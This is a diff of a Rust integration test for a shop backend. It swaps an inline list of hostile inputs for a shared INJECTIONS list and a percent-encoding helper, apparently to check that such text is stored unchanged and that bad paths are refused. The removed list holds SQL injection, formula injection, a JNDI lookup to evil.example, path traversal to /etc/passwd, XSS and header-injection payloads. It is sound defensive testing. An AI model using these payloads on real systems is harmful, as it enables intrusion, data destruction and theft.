@@ -2,31 +2,8 @@
 
 use serde_json::{Value, json};
 use sqlx::Row;
+use tests::hostile::{INJECTIONS, percent_encoded};
 use tests::{Shopper, answer, catalogue, interaction, question, review, shared, tables};
-
-/// SQL, NATS subjects and protocol, lines of headers and logs, formulas of spreadsheets, templates, paths, markup.
-const CORPUS: [&str; 20] = [
-    "'; drop table reviews; --",
-    "$1); select pg_sleep(60); --",
-    "\\'; copy reviews to program 'true'; --",
-    "{\"$ne\":null}",
-    "shop.> * >.a",
-    "\r\nPUB atelier.reviews 5\r\nhello\r\n",
-    "a\r\nSet-Cookie: atelier_session=stolen\r\n\r\n<html>",
-    "2026-01-01T00:00:00Z ERROR writer: the store is damaged\n{\"level\":\"ERROR\"}",
-    "\u{1b}[2J\u{1b}[31mred",
-    "=HYPERLINK(\"https://evil.example\")",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd",
-    "\t=1+1",
-    "${jndi:ldap://evil.example/a}",
-    "{{7*7}} #{7*7} <%= 7*7 %>",
-    "../../../../etc/passwd\\..\\..",
-    "<script>alert(1)</script><img src=x onerror=alert(1)>",
-    "%0d%0aX-Injected: 1 %00 %c0%ae",
-    "\u{202e}txt.exe\u{2066}",
-];
 
 async fn shown(readers: &[Shopper], path: &str, id: (&str, i64), fields: [&str; 2]) -> Vec<[Value; 2]> {
     let mut all = Vec::new();
@@ -45,7 +22,7 @@ async fn whatever_means_something_elsewhere_is_stored_as_it_came_in_every_text()
     let readers: Vec<Shopper> = system.reader_urls().into_iter().map(Shopper::at).collect();
     let product = catalogue::spare_product().id;
     let asked = shopper.post_question(&question(product)).await.expect(201).made("question_id");
-    for text in CORPUS {
+    for text in INJECTIONS {
         let with = |mut body: Value, fields: &[&str]| {
             fields.iter().for_each(|field| body[*field] = json!(text));
             body
@@ -94,8 +71,7 @@ async fn whatever_means_something_elsewhere_is_stored_as_it_came_in_every_text()
         for target in
             ["/reviews?product_id=", "/products/", "/qa/questions?product_id=", "/reviews/meta?product_id="]
         {
-            let escaped: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
-            let answer = shopper.get(&format!("{target}{escaped}")).await;
+            let answer = shopper.get(&format!("{target}{}", percent_encoded(text))).await;
             // nginx itself refuses a path that leads out of everything.
             assert!([400, 404, 422].contains(&answer.status), "{target}: {answer:?}");
         }
